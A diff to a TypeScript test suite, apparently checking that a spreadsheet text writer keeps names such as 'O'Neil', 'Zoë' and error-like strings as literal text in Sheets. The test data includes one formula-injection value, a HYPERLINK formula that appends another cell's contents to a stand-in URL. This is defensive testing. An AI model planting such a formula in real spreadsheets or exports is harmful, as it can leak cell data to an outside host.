@@ -28,6 +28,8 @@ const NAMES = [
   "O'Neil",
   '=HYPERLINK("http://x"&A2,"x")',
   '@home',
+  '#N/A',
+  '#ref!',
   ' padded ',
   'Ann Lee',
   'Zoë',
@@ -38,7 +40,8 @@ describe.each(LOCALES)('the text writer: text stays text in %s', (locale: Locale
   /** What a cell holds after Sheets reads the written string as typed (the stand-in's model of Sheets' parser). */
   function readBack(written: string): unknown {
     const typed = readAsTyped(written, undefined, undefined, locale);
-    return 'formula' in typed ? { formula: typed.formula } : typed.value;
+    if ('formula' in typed) return { formula: typed.formula };
+    return 'error' in typed ? { error: typed.error } : typed.value;
   }
 
   it.each(NAMES)('%j reads back exactly', (name) => {
